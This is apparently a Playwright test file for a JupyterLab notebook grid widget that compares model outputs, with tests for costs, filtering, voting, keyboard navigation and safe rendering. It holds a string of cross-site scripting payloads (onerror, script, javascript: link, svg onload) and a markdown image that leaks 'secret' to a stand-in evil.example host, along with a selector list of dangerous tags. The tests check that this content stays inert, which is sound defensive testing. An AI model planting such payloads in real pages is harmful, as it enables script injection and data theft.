"""The grid in JupyterLab, as a person sees and uses it."""

import json

from hostile import HOSTILE as CORPUS

SETUP = "import threading, nbkit; from scripted_models import Scripted; from nbkit.errors import RateLimitError; "
DONE = """total => document.querySelector(".nbk-g-state")?.textContent.startsWith(total + " of " + total + " done")
    && document.querySelector(".nbk-stop").hidden"""
HOSTILE = (
    '<img src=x onerror=\\"window.pwned=1\\"><script>window.pwned=2</script> [click](javascript:window.pwned=3) '
    '![leak](https://evil.example/?q=secret) <svg onload=\\"window.pwned=4\\">'
)


def test_a_grid_shows_its_cost_starts_opens_filters_and_takes_votes(lab):
    models = f"Scripted('a', ['**same**']), Scripted('b', ['same'], ['same'], ['{HOSTILE}']), "
    models += "Scripted('c', [RateLimitError('no')], ['same'])"
    lab.open(
        f"{SETUP} g = nbkit.grid('Say {{{{text}}}}', [f'word {{n}}' for n in range(40)], [{models}], at_once=1); g",
        "print(g.votes['winner'].tolist())",
    )
    lab.run(0)
    lab.until("() => document.querySelectorAll('.nbk-g-body .nbk-g-row').length > 3")
    assert lab.page.locator(".nbk-g-ahead").inner_text().startswith("120 calls, about $")
    start = lab.page.get_by_role("button", name="Start", exact=True)
    start.press("Enter")
    lab.until(DONE, 120)
    rows = lab.page.locator(".nbk-g-body .nbk-g-row")
    assert rows.count() < 30  # of 40: those in sight
    assert rows.first.locator("[role=gridcell]").all_inner_texts()[1].startswith("same")
    assert rows.first.locator(".nbk-g-words strong").all_inner_texts() == ["same"]
    assert "1 failed" in lab.page.locator(".nbk-g-foot").inner_text()

    lab.page.get_by_role("button", name="only failed").click()
    lab.until("() => document.querySelectorAll('.nbk-g-body .nbk-g-row').length === 1")
    lab.page.get_by_role("button", name="Retry 1 failed").click()
    lab.until("() => document.querySelector('.nbk-g-empty')")
    lab.page.get_by_role("button", name="only failed").click()
    lab.page.get_by_label("Find in prompts").fill("word 3")
    lab.until("() => document.querySelector('.nbk-g-count').textContent === '11 of 40 rows'")
    lab.page.keyboard.press("ArrowDown")  # from the box into the table
    lab.page.keyboard.press("ArrowRight")
    lab.page.keyboard.press("v")
    lab.until("() => document.querySelectorAll('.nbk-won').length === 1")
    lab.page.keyboard.press("ArrowDown")
    lab.page.keyboard.press("Enter")
    lab.until(
        "() => document.querySelectorAll('.nbk-g-answer .nbk-answer').length === 3"
        " && document.querySelector('.nbk-g-drawer strong')"
    )
    lab.page.keyboard.press("0")
    lab.until("() => document.querySelector('.nbk-g-verdict')?.textContent === 'a tie'")
    lab.page.keyboard.press("ArrowDown")
    lab.until("() => document.querySelector('.nbk-g-question')?.innerText === 'Say word 31'")
    lab.page.locator(".nbk-g-answer").nth(1).get_by_role("button", name="best").click()
    lab.until("() => document.querySelectorAll('.nbk-won').length === 2")
    lab.page.keyboard.press("Escape")
    lab.until("() => !document.querySelector('.nbk-g-drawer')")
    assert lab.page.evaluate("() => document.activeElement.closest('.nbk-g-body') !== null")
    assert lab.page.locator(".nbk-live").locator("img, script, svg, iframe, [onerror], [href^=javascript]").count() == 0
    assert lab.page.evaluate("() => window.pwned") is None
    lab.page.get_by_title("Sort by this model: scripted/a").click()
    assert lab.page.locator("[aria-sort=ascending]").inner_text().startswith("1")

    lab.run(1)
    lab.until("() => document.body.innerText.includes(\"['left'\")")
    lab.until("() => (document.querySelector('.nbk-static')?.textContent?.match(/★/g) || []).length === 2")
    assert "pwned=1" in json.dumps(lab.save())
    lab.page.reload()
    lab.until("() => document.querySelectorAll('.nbk-g-body .nbk-g-row').length > 3")
    assert lab.page.locator(".nbk-g-voted").inner_text() == "3 of 40 voted on"
    assert lab.errors == []
    lab.page.evaluate("() => jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
    lab.until("() => document.querySelector('.nbk-g-notice')?.textContent.startsWith('The kernel was restarted')")
    assert lab.abroad == []


BAD = "script, img, svg, iframe, form, object, embed, base, [onerror], [onload], [onclick], [href^='javascript' i]"


def test_hostile_text_stays_text_in_cells_prompts_names_and_votes(lab):
    models = "[Scripted(texts[0], *[[text] for text in texts]), Scripted(texts[1])]"
    lab.open(
        f"{SETUP} texts = {CORPUS!a}; g = nbkit.grid('{{{{text}}}}', texts, {models}, start=True); g",
        "c = nbkit.compare('Hi', [Scripted(text, [text]) for text in texts[:4]])",
    )
    lab.run()
    lab.until(DONE, 2 * len(CORPUS))
    lab.until("() => document.querySelectorAll('.nbk-strip').length === 4")
    lab.page.locator(".nbk-vote").first.click()
    lab.until("() => document.querySelector('.nbk-vote[aria-pressed=true]')")
    lab.page.locator(".nbk-g-scroll").evaluate("table => { table.style.maxHeight = 'none'; }")  # all rows are in sight
    lab.until("rows => document.querySelectorAll('.nbk-g-body .nbk-g-row').length === rows", len(CORPUS))
    lab.page.locator(".nbk-g-body .nbk-g-cell").first.click()
    lab.until("() => document.querySelectorAll('.nbk-g-answer .nbk-answer').length === 2")
    dangerous = lab.page.locator(f".nbk-live :is({BAD})").evaluate_all("nodes => nodes.map((node) => node.outerHTML)")
    assert dangerous == lab.errors == lab.abroad == []
